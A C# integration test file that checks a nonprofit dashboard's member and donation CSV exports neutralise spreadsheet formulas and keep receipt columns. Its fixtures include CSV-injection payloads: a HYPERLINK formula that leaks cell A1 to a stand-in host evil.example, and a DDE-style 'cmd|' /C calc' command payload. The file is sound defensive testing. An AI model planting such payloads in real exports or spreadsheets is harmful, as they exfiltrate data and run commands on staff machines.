using System.Net;
using System.Net.Http.Headers;
using System.Text;
using CsvHelper;
using Kok.Domain.Common;
using Kok.Domain.Donations;
using Kok.Domain.Dues;
using Kok.Domain.Membership;
using Kok.Domain.Payments;
using Kok.Functions.Donations;
using Kok.Functions.Membership;
using Kok.Functions.Storage;
using Kok.IntegrationTests.Infrastructure;

namespace Kok.IntegrationTests.Dashboard;

/// <summary>
/// The staff CSV files read back as Excel would get them: what supporters typed never runs as a formula, amounts
/// stay numbers, and the donations file carries the receipt columns. Donations here are created in 2043, a year no
/// other test uses; members are found by this run's ids.
/// </summary>
public sealed class CsvExportTests : IAsyncLifetime
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Spendenquittung\")";
    private readonly string tag = "t" + Guid.NewGuid().ToString("N")[..10];
    private readonly StorageClients storage = new(new StorageSettings(TestStorage.ConnectionString, null, null, null, null), []);
    private DevHostServer server = null!;

    public async Task InitializeAsync() =>
        server = await DevHostServer.StartAsync(o =>
        {
            o.OnlyFunctions.Add("ExportDashboardMembers");
            o.OnlyFunctions.Add("ExportDashboardDonations");
            o.Settings["Staff:DevToken"] = DashboardHost.StaffToken;
        });

    public async Task DisposeAsync() => await server.DisposeAsync();

    [Fact]
    public async Task Members_csv_neutralises_formulas_in_every_text_cell_and_keeps_amounts_numbers()
    {
        var request = new MembershipRequest(MemberKind.Group, Hyperlink, "@SUM(1+1)*cmd|' /C calc'!A0", $"+{tag}@example.de",
            new PostalAddress("-2+3 Hauptstraße", "\t10785", " =1+1", "DE"), 6000, PaymentMethodKind.SepaDebit, "de", false);
        var member = Member.Create(RandomIdGenerator.Derive(Member.IdPrefix, tag), request, new DateTimeOffset(2040, 5, 9, 10, 0, 0, TimeSpan.Zero));
        Assert.True(await TableMemberRepository.Create(storage, DuesPolicy.Default).TryAddAsync(member, default));

        var (text, rows) = await ExportAsync("api/dashboard/export/members.csv?year=2043");
        var mine = rows.Single(r => r[0] == member.Id);

        Assert.Equal("'" + Hyperlink, mine[2]);
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", mine[3]);
        Assert.Equal($"'+{tag}@example.de", mine[4]);
        Assert.Equal(["'-2+3 Hauptstraße", "'\t10785", "' =1+1", "DE"], mine[5..9]);
        Assert.Equal("60,00", mine[10]);
        Assert.Contains(";60,00;", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Donations_csv_carries_receipt_wish_and_address_and_neutralises_formulas()
    {
        var repository = new TableDonationRepository(storage);
        var withReceipt = await StoreAsync(repository, "receipt", new ContactDetails(Hyperlink, $"a.{tag}@example.de",
            new PostalAddress("@Hauptstraße 1", "10785", "Berlin", "DE")), wantsReceipt: true);
        var without = await StoreAsync(repository, "plain", new ContactDetails($"-{tag}", $"b.{tag}@example.de", null), wantsReceipt: false);

        var (text, rows) = await ExportAsync("api/dashboard/export/donations.csv?year=2043");

        Assert.Equal(
            ["Spenden-ID", "Datum", "Name", "E-Mail", "Betrag (EUR)", "Intervall", "Status", "Eingegangen (EUR)", "Zahlungsart",
                "Zuwendungsbestätigung gewünscht", "Straße", "PLZ", "Ort", "Land"],
            rows[0]);
        Assert.Equal([withReceipt.Id, "03.03.2043", "'" + Hyperlink, $"a.{tag}@example.de", "12,50", "once", "pending", "0,00", "card",
            "Ja", "'@Hauptstraße 1", "10785", "Berlin", "DE"], rows.Single(r => r[0] == withReceipt.Id));
        Assert.Equal([without.Id, "03.03.2043", $"'-{tag}", $"b.{tag}@example.de", "12,50", "once", "pending", "0,00", "card",
            "Nein", "", "", "", ""], rows.Single(r => r[0] == without.Id));
        Assert.Contains(";12,50;once;pending;0,00;card;Ja;", text, StringComparison.Ordinal);
    }

    private static async Task<Donation> StoreAsync(TableDonationRepository repository, string what, ContactDetails donor, bool wantsReceipt)
    {
        var donation = Donation.Create(
            RandomIdGenerator.Derive(Donation.IdPrefix, what, Guid.NewGuid().ToString()),
            new DonationRequest(1250, DonationInterval.Once, PaymentMethodKind.Card, donor, wantsReceipt, "de"),
            new DateTimeOffset(2043, 3, 3, 12, 0, 0, TimeSpan.Zero));
        Assert.True(await repository.TryAddAsync(donation, default));
        return donation;
    }

    private async Task<(string Text, List<string[]> Rows)> ExportAsync(string path)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", DashboardHost.StaffToken);
        using var response = await server.Client.SendAsync(request);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var rows = new List<string[]>();
        await using var csv = CsvReader.Create(bytes, CsvReaderOptions.Default with { Separator = ';', HasHeader = false });
        foreach (var _ in csv)
        {
            rows.Add(Enumerable.Range(0, csv.FieldCount).Select(csv.GetString).ToArray());
        }

        return (Encoding.UTF8.GetString(bytes), rows);
    }
}
